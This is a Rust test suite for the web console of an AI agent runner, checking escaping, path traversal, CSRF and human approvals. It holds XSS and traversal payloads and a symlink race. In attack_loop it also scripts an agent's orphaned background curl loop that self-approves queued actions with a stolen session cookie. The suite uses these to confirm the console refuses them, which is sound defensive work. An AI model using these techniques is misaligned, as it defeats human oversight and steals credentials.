//! The web console through the binary: `sup serve` on 127.0.0.1 with a free port, spoken to
//! over plain HTTP — every page and action, the token and host rules, CSRF rejection, live
//! transcripts over server-sent events — and, in Debian's Chromium driven by playwright-core
//! (`tests/web/e2e.mjs`), a person's path through `sup daemon --serve`.

use crate::common;
use crate::common::{Killed, SpawnKilled};

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{ChildStdout, Command, Stdio};
use std::time::Duration;

use common::{Env, eventually, read_jsonl, tool_messages};
use serde_json::{Value, json};

const TOKEN: &str = "a-long-enough-secret-token";

/// A console (or daemon with one) running as a child process; killed when dropped (its
/// `Killed`).
pub(crate) struct Console {
    /// Held so that the console ends with its test.
    _child: Killed,
    pub(crate) addr: String,
    /// Its log (stderr) so far.
    log: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
}

impl Console {
    pub(crate) fn log(&self) -> String {
        self.log.lock().unwrap().join("\n")
    }
}

/// Start `cmd` (whose stderr says `listening on http://ADDR`) and wait for the address.
pub(crate) fn console(mut cmd: Command) -> Console {
    let mut child = cmd
        .stderr(Stdio::piped())
        .stdout(Stdio::null())
        .spawn_killed();
    let mut lines = BufReader::new(child.stderr.take().unwrap()).lines();
    let mut seen = Vec::new();
    let addr = loop {
        let Some(Ok(line)) = lines.next() else {
            panic!("the console did not start: {}", seen.join("\n"));
        };
        if let Some(a) = line.split("listening on http://").nth(1) {
            break a.trim().to_string();
        }
        seen.push(line);
    };
    // Keep reading its log, so it never blocks on a full pipe.
    let log = std::sync::Arc::new(std::sync::Mutex::new(seen));
    let keep = log.clone();
    std::thread::spawn(move || {
        for line in lines.map_while(Result::ok) {
            keep.lock().unwrap().push(line);
        }
    });
    Console {
        _child: child,
        addr,
        log,
    }
}

pub(crate) fn serve(env: &Env, goals: &Path, extra: &[(&str, &str)], listen: &str) -> Console {
    let mut cmd = env.sup();
    cmd.args(["serve", "--listen", listen, "--goals"])
        .arg(goals);
    for (k, v) in extra {
        cmd.env(k, v);
    }
    console(cmd)
}

pub(crate) struct Resp {
    pub(crate) status: u16,
    headers: Vec<(String, String)>,
    pub(crate) body: String,
}

impl Resp {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    /// The value of cookie `name` this response sets.
    fn cookie(&self, name: &str) -> Option<String> {
        self.headers
            .iter()
            .filter(|(k, _)| k.eq_ignore_ascii_case("set-cookie"))
            .filter_map(|(_, v)| v.split(';').next()?.split_once('='))
            .find(|(k, _)| *k == name)
            .map(|(_, v)| v.to_string())
    }
}

fn dechunk(body: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut rest = body;
    while let Some(i) = rest.windows(2).position(|w| w == b"\r\n") {
        let size =
            usize::from_str_radix(std::str::from_utf8(&rest[..i]).unwrap().trim(), 16).unwrap_or(0);
        if size == 0 {
            break;
        }
        out.extend_from_slice(&rest[i + 2..i + 2 + size]);
        rest = &rest[i + 2 + size + 2..];
    }
    out
}

/// One HTTP/1.1 request with `Host: 127.0.0.1` unless given.
pub(crate) fn http(
    addr: &str,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> Resp {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    let mut req = format!("{method} {path} HTTP/1.1\r\nConnection: close\r\n");
    if !headers.iter().any(|(k, _)| k.eq_ignore_ascii_case("host")) {
        req.push_str(&format!("Host: {addr}\r\n"));
    }
    for (k, v) in headers {
        req.push_str(&format!("{k}: {v}\r\n"));
    }
    if method == "POST" {
        req.push_str("Content-Type: application/x-www-form-urlencoded\r\n");
        req.push_str(&format!("Content-Length: {}\r\n", body.len()));
    }
    req.push_str("\r\n");
    req.push_str(body);
    s.write_all(req.as_bytes()).unwrap();
    let mut raw = Vec::new();
    s.read_to_end(&mut raw).unwrap();
    let split = raw.windows(4).position(|w| w == b"\r\n\r\n").unwrap();
    let head = String::from_utf8_lossy(&raw[..split]).into_owned();
    let mut lines = head.lines();
    let status = lines
        .next()
        .unwrap()
        .split(' ')
        .nth(1)
        .unwrap()
        .parse()
        .unwrap();
    let headers: Vec<(String, String)> = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.trim().to_string(), v.trim().to_string()))
        .collect();
    let mut body = raw[split + 4..].to_vec();
    if headers
        .iter()
        .any(|(k, v)| k.eq_ignore_ascii_case("transfer-encoding") && v.contains("chunked"))
    {
        body = dechunk(&body);
    }
    Resp {
        status,
        headers,
        body: String::from_utf8_lossy(&body).into_owned(),
    }
}

pub(crate) fn get(addr: &str, path: &str, cookie: Option<&str>) -> Resp {
    match cookie {
        Some(c) => http(addr, "GET", path, &[("Cookie", c)], ""),
        None => http(addr, "GET", path, &[], ""),
    }
}

/// `name="csrf" value="…"` of a page.
pub(crate) fn csrf_of(page: &str) -> String {
    let i = page
        .find("name=\"csrf\" value=\"")
        .expect("a form with a CSRF token")
        + 19;
    page[i..i + page[i..].find('"').unwrap()].to_string()
}

/// Sign in as `name` (with `token` when given); returns the session cookie header value.
pub(crate) fn sign_in(addr: &str, name: &str, token: Option<&str>) -> String {
    let page = get(addr, "/signin", None);
    assert_eq!(page.status, 200, "{}", page.body);
    let pre = page.cookie("sup_signin").expect("a sign-in cookie");
    assert_eq!(csrf_of(&page.body), pre);
    let mut form = format!("name={name}&csrf={pre}&next=/approvals");
    if let Some(t) = token {
        form.push_str(&format!("&token={t}"));
    }
    let r = http(
        addr,
        "POST",
        "/signin",
        &[("Cookie", &format!("sup_signin={pre}"))],
        &form,
    );
    assert_eq!(r.status, 303, "{}", r.body);
    assert_eq!(r.header("location"), Some("/approvals"));
    format!(
        "sup_session={}",
        r.cookie("sup_session").expect("a session cookie")
    )
}

pub(crate) fn goals_dir(env: &Env) -> PathBuf {
    let dir = env.home.path().join("goals");
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// A running command started with `--json`: its child and its run id (from `run_started`).
fn spawn_json(mut cmd: Command) -> (Killed, String, BufReader<ChildStdout>) {
    let mut child = cmd
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn_killed();
    let mut out = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    out.read_line(&mut line).unwrap();
    let first: Value = serde_json::from_str(&line).unwrap_or_else(|_| panic!("{line}"));
    assert_eq!(first["type"], "run_started", "{line}");
    (child, first["run_id"].as_str().unwrap().to_string(), out)
}

fn scripted(env: &Env, turns: Value, args: &[&str]) -> Command {
    let script = env.script(turns);
    let mut cmd = env.sup();
    cmd.args(["run", "do the work", "--json", "--model"])
        .arg(format!("script:{}", script.display()))
        .args(args);
    cmd
}

fn write_turns(file: &str, then: &str) -> Value {
    json!([
        {"tool_calls": [{"id": "w1", "name": "write_file", "input": {"path": file, "content": "hello\n"}}]},
        {"text": then}
    ])
}

fn run_dir(env: &Env, id: &str) -> PathBuf {
    env.home.path().join("runs").join(id)
}

#[test]
fn runs_are_listed_filtered_and_paginated_and_a_transcript_is_escaped() {
    let env = Env::new();
    let evil = "<script>alert(1)</script>";
    let plain = env.run_json(
        json!([
            {"tool_calls": [{"id": "c1", "name": "run_command", "input": {"command": "echo <b>hi</b>"}}]},
            {"text": format!("done {evil} \u{1b}[2J")}
        ]),
        &[],
    );
    assert_eq!(plain.code, 0, "{}", plain.stderr);
    let plain_id = plain.result()["run_id"].as_str().unwrap().to_string();
    let second = env.run_json(json!([{"text": "second"}]), &[]);
    let goal = env.json(
        &["goal", "make it", "--name", "other", "--check-cmd", "true"],
        json!([{"text": "made"}]),
        &[],
    );
    assert_eq!(goal.code, 0, "{}", goal.stderr);
    let goal_id = goal.result()["run_id"].as_str().unwrap().to_string();
    let c = serve(&env, &goals_dir(&env), &[], "127.0.0.1:0");

    let all = get(&c.addr, "/runs", None);
    assert_eq!(all.status, 200);
    assert!(
        all.body.contains(&plain_id) && all.body.contains(&goal_id),
        "{}",
        all.body
    );
    assert!(all.body.contains("3 runs"), "{}", all.body);
    assert!(
        all.header("content-security-policy")
            .unwrap()
            .contains("default-src 'none'")
    );

    let other = get(&c.addr, "/runs?goal=other", None);
    assert!(other.body.contains(&goal_id) && !other.body.contains(&plain_id));
    let none = get(&c.addr, "/runs?status=failed", None);
    assert!(none.body.contains("No runs."), "{}", none.body);
    let achieved = get(&c.addr, "/runs?status=achieved&goal=", None);
    assert!(achieved.body.contains("3 runs"), "{}", achieved.body);

    let p1 = get(&c.addr, "/runs?per=2", None);
    assert!(
        p1.body.contains("page 1 of 2") && p1.body.contains("older →"),
        "{}",
        p1.body
    );
    assert!(!p1.body.contains(&plain_id), "the oldest run is on page 2");
    let p2 = get(&c.addr, "/runs?per=2&page=2", None);
    assert!(p2.body.contains(&plain_id) && p2.body.contains("← newer"));
    assert!(
        !p2.body
            .contains(second.result()["run_id"].as_str().unwrap())
    );

    let page = get(&c.addr, &format!("/runs/{plain_id}"), None);
    assert_eq!(page.status, 200);
    assert!(
        !page.body.contains(evil),
        "markup from the model is escaped"
    );
    assert!(page.body.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(!page.body.contains('\u{1b}') && page.body.contains("\\x1b"));
    assert!(
        page.body.contains("⚙ run_command"),
        "the trace's lines: {}",
        page.body
    );
    assert!(
        page.body.contains("echo &lt;b&gt;hi&lt;/b&gt;"),
        "arguments, escaped"
    );
    assert!(page.body.contains("◆ Done"), "{}", page.body);
    assert!(page.body.contains("data-live=\"0\""));
    let goal_page = get(&c.addr, &format!("/runs/{goal_id}"), None);
    assert!(goal_page.body.contains("✓ true"), "{}", goal_page.body);
    assert!(
        goal_page.body.contains("Goal achieved"),
        "{}",
        goal_page.body
    );
    assert_eq!(get(&c.addr, "/runs/no-such-run", None).status, 404);
    assert_eq!(get(&c.addr, "/", None).status, 303);
    let css = get(&c.addr, "/static/style.css", None);
    assert!(css.status == 200 && css.body.contains(".transcript"));
    let js = get(&c.addr, "/static/live.js", None);
    assert!(js.status == 200 && js.body.contains("EventSource"));
}

#[test]
fn kept_outputs_are_linked_and_nothing_outside_the_run_folder_is_served() {
    let env = Env::new();
    let r = env.run_json(
        json!([
            {"tool_calls": [{"id": "c1", "name": "run_command", "input": {"command": "seq 1 5000"}}]},
            {"text": "ok"}
        ]),
        &["--output-cap", "256"],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let id = r.result()["run_id"].as_str().unwrap();
    std::fs::write(env.home.path().join("secret.txt"), "do not serve").unwrap();
    let c = serve(&env, &goals_dir(&env), &[], "127.0.0.1:0");
    let page = get(&c.addr, &format!("/runs/{id}"), None);
    let i = page
        .body
        .find("/files/outputs/")
        .expect("a link to the kept output");
    let href = &page.body[page.body[..i].rfind('"').unwrap() + 1..];
    let href = &href[..href.find('"').unwrap()];
    let file = get(&c.addr, href, None);
    assert_eq!(file.status, 200);
    assert!(file.body.contains("4999\n5000"), "the whole output is kept");
    assert!(
        file.header("content-type")
            .unwrap()
            .starts_with("text/plain")
    );
    let transcript = get(&c.addr, &format!("/runs/{id}/files/transcript.jsonl"), None);
    assert!(transcript.body.contains("run_started"));
    for bad in [
        "../../secret.txt",
        "..%2F..%2Fsecret.txt",
        "%2e%2e/%2e%2e/secret.txt",
    ] {
        let r = get(&c.addr, &format!("/runs/{id}/files/{bad}"), None);
        assert_ne!(r.status, 200, "{bad}");
        assert!(!r.body.contains("do not serve"), "{bad}");
    }
}

/// The run's `tmp` is the agent's to write: a folder there flipped to a symlink between the
/// console's check of a path and its read served a file outside the run folder.
#[test]
fn a_symlink_flipped_in_the_runs_temp_folder_serves_nothing_outside_it() {
    let env = Env::new();
    let r = env.run_json(json!([{"text": "ok"}]), &[]);
    let id = r.result()["run_id"].as_str().unwrap().to_string();
    let tmp = run_dir(&env, &id).join("tmp");
    std::fs::create_dir_all(&tmp).unwrap();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("x"), "do not serve").unwrap();
    let c = serve(&env, &goals_dir(&env), &[], "127.0.0.1:0");
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let flipper = {
        let (stop, tmp, target) = (stop.clone(), tmp.clone(), outside.path().to_path_buf());
        std::thread::spawn(move || {
            // A folder holding `x` and a symlink to the folder outside trade places (one
            // atomic rename), over and over.
            let (d, s) = (tmp.join("d"), tmp.join("s"));
            std::fs::create_dir_all(&d).unwrap();
            std::fs::write(d.join("x"), "inside").unwrap();
            std::os::unix::fs::symlink(&target, &s).unwrap();
            let (d, s) = (
                std::ffi::CString::new(d.to_str().unwrap()).unwrap(),
                std::ffi::CString::new(s.to_str().unwrap()).unwrap(),
            );
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                // SAFETY: renameat2 on two NUL-terminated paths.
                unsafe {
                    libc::renameat2(
                        libc::AT_FDCWD,
                        s.as_ptr(),
                        libc::AT_FDCWD,
                        d.as_ptr(),
                        libc::RENAME_EXCHANGE,
                    );
                }
            }
        })
    };
    let mut leaked = 0;
    let mut inside = 0;
    for _ in 0..1000 {
        let r = get(&c.addr, &format!("/runs/{id}/files/tmp/d/x"), None);
        leaked += usize::from(r.body.contains("do not serve"));
        inside += usize::from(r.body.contains("inside"));
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    flipper.join().unwrap();
    assert!(inside > 0, "the file inside is served");
    assert_eq!(
        leaked, 0,
        "a file outside the run folder was served {leaked} times"
    );
}

#[test]
fn a_live_transcript_streams_new_events_until_the_run_ends() {
    let env = Env::new();
    let turns: Vec<Value> = (1..=4)
        .map(|i| json!({"delay_ms": 500, "tool_calls": [{"id": format!("c{i}"), "name": "run_command", "input": {"command": format!("echo tick-{i}")}}]}))
        .chain([json!({"text": "all ticks done", "delay_ms": 500})])
        .collect();
    let (mut child, id, _out) = spawn_json(scripted(&env, json!(turns), &[]));
    let c = serve(&env, &goals_dir(&env), &[], "127.0.0.1:0");
    let page = get(&c.addr, &format!("/runs/{id}"), None);
    assert!(page.body.contains("data-live=\"1\""), "{}", page.body);
    assert!(!page.body.contains("all ticks done"));
    let i = page.body.find("/events?from=").unwrap() + 13;
    let from = &page.body[i..i + page.body[i..].find('"').unwrap()];
    // The stream from where the page stopped: each later event once, then `end`.
    let stream = get(&c.addr, &format!("/runs/{id}/events?from={from}"), None);
    assert_eq!(stream.status, 200);
    assert!(
        stream
            .header("content-type")
            .unwrap()
            .starts_with("text/event-stream")
    );
    assert!(stream.body.contains("event: line"), "{}", stream.body);
    assert!(stream.body.contains("tick-4"), "{}", stream.body);
    assert!(stream.body.contains("all ticks done"), "{}", stream.body);
    assert!(
        stream.body.trim_end().ends_with("data: end"),
        "{}",
        stream.body
    );
    assert_eq!(
        stream
            .body
            .matches("⚙ run_command {&quot;command&quot;:&quot;echo tick-4")
            .count(),
        1,
        "once: {}",
        stream.body
    );
    assert!(child.wait().unwrap().success());
    // Reconnecting with Last-Event-ID resumes after that event.
    let ids: Vec<&str> = stream
        .body
        .lines()
        .filter_map(|l| l.strip_prefix("id: "))
        .collect();
    let last_but_one = ids[ids.len() - 2];
    let again = http(
        &c.addr,
        "GET",
        &format!("/runs/{id}/events?from=0"),
        &[("Last-Event-ID", last_but_one)],
        "",
    );
    assert_eq!(
        again.body.matches("event: line").count(),
        1,
        "{}",
        again.body
    );
    let done = get(&c.addr, &format!("/runs/{id}"), None);
    assert!(done.body.contains("data-live=\"0\"") && done.body.contains("all ticks done"));
}

#[test]
fn approvals_are_answered_on_the_page_as_web_name_and_only_with_csrf() {
    let env = Env::new();
    let queued = |file: &str, then: &str| {
        spawn_json(scripted(
            &env,
            write_turns(file, then),
            &["--approval", "queue"],
        ))
    };
    let (mut yes, yes_id, _o1) = queued("approved.txt", "wrote it");
    let (mut no, no_id, _o2) = queued("denied.txt", "left it");
    let rows = env.pending(2);
    assert_eq!(rows.len(), 2, "{rows:?}");
    let req = |run: &str| {
        rows.iter().find(|r| r["run_id"] == run).unwrap()["id"]
            .as_str()
            .unwrap()
            .to_string()
    };
    let (yes_req, no_req) = (req(&yes_id), req(&no_id));
    let c = serve(&env, &goals_dir(&env), &[], "127.0.0.1:0");

    let anon = get(&c.addr, "/approvals", None);
    assert_eq!(anon.status, 200);
    assert!(anon.body.contains(&yes_req) && anon.body.contains(&no_req));
    assert!(
        anon.body
            .contains("write_file wants to create approved.txt"),
        "{}",
        anon.body
    );
    assert!(anon.body.contains("+hello"), "the diff: {}", anon.body);
    assert!(anon.body.contains("Sign in"), "no forms without a name");

    let approve = format!("/approvals/{yes_req}/approve");
    // Without a session, with a wrong token, from another site: refused, still waiting.
    let r = http(&c.addr, "POST", &approve, &[], "csrf=x");
    assert_eq!(r.status, 403);
    let cookie = sign_in(&c.addr, "alice", None);
    let page = get(&c.addr, "/approvals", Some(&cookie));
    assert!(
        page.body.contains("signed in as <b>alice</b>"),
        "{}",
        page.body
    );
    let csrf = csrf_of(&page.body);
    let r = http(
        &c.addr,
        "POST",
        &approve,
        &[("Cookie", &cookie)],
        "csrf=wrong",
    );
    assert_eq!(r.status, 403);
    assert!(r.body.contains("CSRF"), "{}", r.body);
    let r = http(&c.addr, "POST", &approve, &[("Cookie", &cookie)], "");
    assert!(r.status >= 400, "no token at all: {}", r.status);
    let r = http(
        &c.addr,
        "POST",
        &approve,
        &[("Cookie", &cookie), ("Origin", "http://evil.example")],
        &format!("csrf={csrf}"),
    );
    assert_eq!(r.status, 403, "another origin");
    let r = http(&c.addr, "GET", &approve, &[("Cookie", &cookie)], "");
    assert_eq!(r.status, 405, "a GET changes nothing");
    assert_eq!(env.pending(2).len(), 2, "nothing was answered yet");

    let r = http(
        &c.addr,
        "POST",
        &approve,
        &[
            ("Cookie", &cookie),
            ("Origin", &format!("http://{}", c.addr)),
        ],
        &format!("csrf={csrf}"),
    );
    assert_eq!(r.status, 303, "{}", r.body);
    let r = http(
        &c.addr,
        "POST",
        &format!("/approvals/{no_req}/deny"),
        &[("Cookie", &cookie)],
        &format!("csrf={csrf}&reason=not+on+Fridays+%3Cb%3E"),
    );
    assert_eq!(r.status, 303, "{}", r.body);
    assert!(yes.wait().unwrap().success());
    assert!(no.wait().unwrap().success());
    assert!(env.ws.path().join("approved.txt").exists());
    assert!(!env.ws.path().join("denied.txt").exists());

    let t = read_jsonl(&run_dir(&env, &yes_id).join("transcript.jsonl"));
    let by = t.iter().find(|e| e["type"] == "approval").unwrap()["by"].clone();
    assert!(by.as_str().unwrap().starts_with("web:alice"), "{by}");
    let t = read_jsonl(&run_dir(&env, &no_id).join("transcript.jsonl"));
    let msgs = tool_messages(&t);
    let told = msgs[0].to_string();
    assert!(
        told.contains("not on Fridays <b>") && told.contains("web:alice"),
        "{told}"
    );

    let page = get(&c.addr, "/approvals", Some(&cookie));
    assert!(page.body.contains("No approval requests are waiting."));
    assert!(
        page.body.contains("web:alice"),
        "who answered: {}",
        page.body
    );
    assert!(
        page.body.contains("not on Fridays &lt;b&gt;"),
        "{}",
        page.body
    );
    let again = http(
        &c.addr,
        "POST",
        &approve,
        &[("Cookie", &cookie)],
        &format!("csrf={csrf}"),
    );
    assert_eq!(again.status, 409, "{}", again.body);
    assert!(again.body.contains("no longer waiting"));
    let run_page = get(&c.addr, &format!("/runs/{no_id}"), None);
    assert!(
        run_page.body.contains("not on Fridays &lt;b&gt;"),
        "{}",
        run_page.body
    );
}

/// What a hostile model's background loop does against the console at `a`: sign in under a
/// name of its choosing and approve what waits with that session, and with a person's session
/// (`stolen`, when there) too; each answer's status goes to `codes`, each body to `*.out`.
/// The loop may still run while a test reads them: a body is whole (renamed into place)
/// before its status is written.
pub(crate) fn attack_loop(a: &str) -> String {
    format!(
        r#"read cookie csrf < stolen 2>/dev/null
post() {{ code=$(curl -s "$@" -o "$out.part" -w '%{{http_code}}'); mv -f "$out.part" "$out"; }}
for i in $(seq 200); do
  c=$(curl -s -c jar http://{a}/signin | grep -o 'name="csrf" value="[^"]*' | cut -d'"' -f4)
  out=signin.out post -b jar -c jar -d "name=agent&csrf=$c&next=/approvals" http://{a}/signin
  echo "signin $code" >> codes
  page=$(curl -s -b jar http://{a}/approvals)
  own=$(printf %s "$page" | grep -o 'name="csrf" value="[^"]*' | head -1 | cut -d'"' -f4)
  for id in $(printf %s "$page" | grep -o '/approvals/[^/"]*/approve' | cut -d/ -f3); do
    out=approve.out post -b jar -d "csrf=$own" http://{a}/approvals/$id/approve
    echo "approve $code" >> codes
  done
  [ -n "$cookie" ] || {{ sleep 0.05; continue; }}
  for id in $(curl -s -b "$cookie" http://{a}/approvals | grep -o '/approvals/[^/"]*/approve' | cut -d/ -f3); do
    out=approve.out post -b "$cookie" -d "csrf=$csrf" http://{a}/approvals/$id/approve
    echo "approve $code" >> codes
  done
  sleep 0.05
done
"#
    )
}

/// A run (`cmd`) whose first call starts `loop.sh` in the background, without `SUP_RUN_ID`
/// and orphaned to `sup`, and whose second is a write that waits for a person (3 s).
pub(crate) fn run_beside_a_loop(env: &Env, mut cmd: Command) -> common::Run {
    let script = env.script(json!([
        {"tool_calls": [{"id": "loop", "name": "run_command", "input": {"command":
          "nohup env -i PATH=\"$PATH\" bash loop.sh >/dev/null 2>&1 &"}}]},
        {"tool_calls": [{"id": "w", "name": "write_file",
          "input": {"path": "forbidden.txt", "content": "x"}}]},
        {"text": "done"}
    ]));
    cmd.args(["run", "do the work", "--json", "--model"])
        .arg(format!("script:{}", script.display()))
        .args([
            "--approval",
            "auto",
            "--ask",
            "write_file",
            "--approval-timeout",
            "3s",
        ]);
    common::Run::new(cmd.output().unwrap())
}

/// The agent's own commands reach the console on loopback (the network is on by default): a
/// background loop, started without `SUP_RUN_ID` and orphaned to `sup`, signs in with a name
/// of its choosing and, with that session and with a person's stolen one, tries to approve
/// the run's queued write. Every sign-in and answer is refused (403) and logged; the write
/// never happens.
#[test]
fn a_runs_own_commands_cannot_sign_in_or_answer_its_approvals_on_the_console() {
    let env = Env::new();
    let c = serve(&env, &goals_dir(&env), &[], "127.0.0.1:0");
    // A person's session, as if the agent had read it from the person's browser.
    let cookie = sign_in(&c.addr, "alice", None);
    let csrf = csrf_of(&get(&c.addr, "/approvals", Some(&cookie)).body);
    std::fs::write(env.ws().join("stolen"), format!("{cookie} {csrf}\n")).unwrap();
    env.write("loop.sh", &attack_loop(&c.addr));
    let run = run_beside_a_loop(&env, env.sup());
    let codes = std::fs::read_to_string(env.ws().join("codes")).unwrap_or_default();
    assert!(!env.ws().join("forbidden.txt").exists(), "{codes}");
    assert_eq!(run.tool_result("w")["is_error"], true, "{}", run.stdout);
    assert!(codes.contains("signin 403"), "{codes}");
    assert!(codes.contains("approve 403"), "{codes}");
    assert!(
        codes.lines().all(|l| l.ends_with(" 403")),
        "only refusals: {codes}"
    );
    let said = std::fs::read_to_string(env.ws().join("approve.out")).unwrap();
    assert!(said.contains("which sup started"), "{said}");
    assert!(
        c.log().contains("console: refused POST /approvals/"),
        "{}",
        c.log()
    );
    // A person (this test, outside sup's tree) still signs in and acts.
    let r = http(
        &c.addr,
        "POST",
        "/signout",
        &[("Cookie", &cookie)],
        &format!("csrf={csrf}"),
    );
    assert_eq!(r.status, 303, "{}", r.body);
}

/// The same as an ordinary user: the console cannot read the binary of the non-dumpable
/// `sup` that started the loop, and knows it by its name.
#[test]
fn as_an_ordinary_user_a_runs_own_commands_cannot_sign_in_on_the_console() {
    let env = Env::new();
    let mut cmd = env.sup_as_nobody();
    cmd.args(["serve", "--listen", "127.0.0.1:0", "--goals"])
        .arg(goals_dir(&env));
    let c = console(cmd);
    env.write("loop.sh", &attack_loop(&c.addr));
    let run = run_beside_a_loop(&env, env.sup_as_nobody());
    let codes = std::fs::read_to_string(env.ws().join("codes")).unwrap_or_default();
    assert!(!env.ws().join("forbidden.txt").exists(), "{codes}");
    assert_eq!(run.tool_result("w")["is_error"], true, "{}", run.stdout);
    assert!(codes.contains("signin 403"), "{codes}");
    assert!(
        codes.lines().all(|l| l.ends_with(" 403")),
        "only refusals: {codes}"
    );
    let said = std::fs::read_to_string(env.ws().join("signin.out")).unwrap();
    assert!(said.contains("which sup started"), "{said}");
}

/// A console running as an ordinary user cannot see the process of a root client (as with a
/// connection another user makes, or one an SSH tunnel forwards): without a token it refuses
/// that sign-in, since it cannot rule out the agent; with a token, which the agent never sees,
/// the sign-in stands for a person.
#[test]
fn a_client_sup_cannot_see_signs_in_only_with_the_token() {
    let env = Env::new();
    let mut cmd = env.sup_as_nobody();
    cmd.args(["serve", "--listen", "127.0.0.1:0", "--goals"])
        .arg(goals_dir(&env));
    let c = console(cmd);
    let page = get(&c.addr, "/signin", None);
    let pre = page.cookie("sup_signin").unwrap();
    let r = http(
        &c.addr,
        "POST",
        "/signin",
        &[("Cookie", &format!("sup_signin={pre}"))],
        &format!("name=alice&csrf={pre}&next=/approvals"),
    );
    assert_eq!(r.status, 403, "{}", r.body);
    assert!(r.body.contains("cannot tell which process"), "{}", r.body);
    assert!(r.body.contains("SUP_SERVE_TOKEN"), "{}", r.body);

    let token = "a-token-of-thirty-two-characters";
    let mut cmd = env.sup_as_nobody();
    cmd.env("SUP_SERVE_TOKEN", token)
        .args(["serve", "--listen", "127.0.0.1:0", "--goals"])
        .arg(goals_dir(&env));
    let c = console(cmd);
    let cookie = sign_in(&c.addr, "alice", Some(token));
    assert_eq!(get(&c.addr, "/approvals", Some(&cookie)).status, 200);
}

/// The cells of the runs table's row for `id`, tags stripped.
fn row_cells(page: &str, id: &str) -> Vec<String> {
    let at = page
        .find(&format!("href=\"/runs/{id}\""))
        .unwrap_or_else(|| panic!("no row for {id}: {page}"));
    let start = page[..at].rfind("<tr").unwrap();
    let row = &page[start..start + page[start..].find("</tr>").unwrap()];
    row.split("<td")
        .skip(1)
        .map(|cell| {
            let mut text = String::new();
            let mut tag = true;
            for ch in cell.chars() {
                match ch {
                    '<' => tag = true,
                    '>' => tag = false,
                    _ if !tag => text.push(ch),
                    _ => {}
                }
            }
            text.trim().to_string()
        })
        .collect()
}

#[test]
fn the_runs_page_shows_each_runs_figures_and_a_run_page_a_failing_checks_output() {
    let env = Env::new();
    let script = env.script(json!([
        {"text": "not yet", "usage": {"input_tokens": 1000, "output_tokens": 500}},
        {"tool_calls": [{"id": "w", "name": "write_file", "input": {"path": "done.txt", "content": "x"}}],
         "usage": {"input_tokens": 2000, "output_tokens": 100}},
        {"text": "done now", "usage": {"input_tokens": 3000, "output_tokens": 400}}
    ]));
    let model = format!("script:{}", script.display());
    // $2 and $4 a million tokens in and out: 6,000 in and 1,000 out cost $0.0160.
    let config = env.home.path().join("config.toml");
    std::fs::write(
        &config,
        format!("[prices.\"{model}\"]\ninput = 2.0\noutput = 4.0\n"),
    )
    .unwrap();
    let out = env
        .sup()
        .env("SUP_CONFIG", &config)
        .args([
            "goal",
            "finish it",
            "--name",
            "figures",
            "--tries",
            "2",
            "--json",
        ])
        .args([
            "--check-cmd",
            "echo check-said-$((6*7)); test -f done.txt",
            "--model",
        ])
        .arg(&model)
        .output()
        .unwrap();
    let run = common::Run::new(out);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let id = run.result()["run_id"].as_str().unwrap().to_string();
    let listed = env.sup().args(["runs", "--json"]).output().unwrap();
    let listed: Vec<Value> = serde_json::from_slice(&listed.stdout).unwrap();
    let row = listed.iter().find(|r| r["run_id"] == id.as_str()).unwrap();
    let c = serve(&env, &goals_dir(&env), &[], "127.0.0.1:0");
    let page = get(&c.addr, "/runs", None);
    let cells = row_cells(&page.body, &id);
    // Run, goal, status, stop reason, tries, steps, tokens, cost, duration, trigger, start.
    assert_eq!(cells.len(), 11, "{cells:?}");
    assert_eq!(cells[1], "figures");
    assert_eq!(cells[2], "achieved");
    assert_eq!(cells[3], row["stop_reason"].as_str().unwrap(), "{cells:?}");
    assert!(!cells[3].is_empty(), "{cells:?}");
    assert_eq!(cells[4], "2", "tries: {cells:?}");
    assert_eq!(cells[5], "3", "steps: {cells:?}");
    assert_eq!(cells[6], "6000 / 1000", "tokens: {cells:?}");
    assert_eq!(cells[7], "$0.0160", "cost: {cells:?}");
    let secs = cells[8].strip_suffix('s').unwrap().parse::<f64>();
    assert!(secs.is_ok_and(|s| s >= 0.0), "duration: {cells:?}");
    assert_eq!(cells[9], "cli", "trigger: {cells:?}");
    assert_eq!(cells[9], row["trigger"].as_str().unwrap());
    let started = row["started_at"].as_str().unwrap();
    assert_eq!(
        cells[10],
        started[..19].replace('T', " "),
        "start: {cells:?}"
    );

    let page = get(&c.addr, &format!("/runs/{id}"), None);
    assert!(
        page.body
            .contains("✗ echo check-said-$((6*7)); test -f done.txt"),
        "the failing check: {}",
        page.body
    );
    assert!(
        page.body.contains("check-said-42"),
        "its output: {}",
        page.body
    );
}

#[test]
fn approve_always_on_the_page_lets_the_same_command_through_and_shows_the_exact_command() {
    let env = Env::new();
    let command = "echo always-$((40+2)) >> log.txt";
    let call = |id: &str| json!({"tool_calls": [{"id": id, "name": "run_command", "input": {"command": command}}]});
    let turns = json!([call("c1"), call("c2"), {"text": "twice"}]);
    let (mut child, run_id, _out) = spawn_json(scripted(
        &env,
        turns,
        &["--approval", "queue", "--approval-timeout", "5s"],
    ));
    let rows = env.pending(1);
    assert_eq!(rows.len(), 1, "{rows:?}");
    let req = rows[0]["id"].as_str().unwrap().to_string();
    let c = serve(&env, &goals_dir(&env), &[], "127.0.0.1:0");
    let cookie = sign_in(&c.addr, "carol", None);
    let page = get(&c.addr, "/approvals", Some(&cookie));
    assert!(
        page.body.contains("echo always-$((40+2)) &gt;&gt; log.txt"),
        "the exact command: {}",
        page.body
    );
    assert!(page.body.contains(&run_id), "its run: {}", page.body);
    let r = http(
